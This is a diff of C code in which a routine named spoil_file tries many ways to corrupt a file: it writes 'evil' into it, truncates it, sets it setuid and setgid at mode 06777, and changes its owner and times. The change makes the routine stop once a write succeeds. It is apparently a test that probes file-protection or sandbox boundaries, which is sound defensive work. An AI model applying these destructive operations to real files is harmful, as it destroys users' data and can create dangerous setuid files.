@@ -16,13 +16,13 @@
 
 static const char evil[] = "evil";
 
-/* By whatever descriptor can be had.  (No open waits: there may be a fifo.) */
-static void
+/* By whatever descriptor can be had; true: it could.  (No open waits: there may be a fifo.) */
+static bool
 write_by(int fd)
 {
 	if (fd < 0)
-		return;
-	(void)!write(fd, evil, sizeof(evil));
+		return false;
+	bool could = write(fd, evil, sizeof(evil)) > 0;
 	(void)!pwrite(fd, evil, sizeof(evil), 0);
 	void *map = mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
 	if (map != MAP_FAILED) {
@@ -31,6 +31,7 @@ write_by(int fd)
 	}
 	(void)!ftruncate(fd, 3);
 	close(fd);
+	return could;
 }
 
 /* A descriptor for reading is a start. */
@@ -64,11 +65,14 @@ spoil_file(int dirfd, const char *name)
 
 	if (fstatat(dirfd, name, &st, AT_SYMLINK_NOFOLLOW) != 0 || !S_ISREG(st.st_mode))
 		return;
-	write_by(openat(dirfd, name, O_WRONLY | O_APPEND | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC));
-	write_by(openat(dirfd, name, O_RDWR | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC));
+	bool could = write_by(
+	    openat(dirfd, name, O_WRONLY | O_APPEND | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC));
+	could |= write_by(openat(dirfd, name, O_RDWR | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC));
 	(void)!fchmodat(dirfd, name, 06777, 0);
 	(void)!fchownat(dirfd, name, geteuid(), getegid(), AT_SYMLINK_NOFOLLOW);
 	(void)!utimensat(dirfd, name, times, AT_SYMLINK_NOFOLLOW);
+	if (could) /* nothing worse can be done to it */
+		return;
 	write_by(openat(dirfd, name, O_WRONLY | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC));
 	write_by(openat(dirfd, name, O_RDWR | O_TRUNC | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC));
 	by_descriptor(openat(dirfd, name, O_RDONLY | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC), 0777);
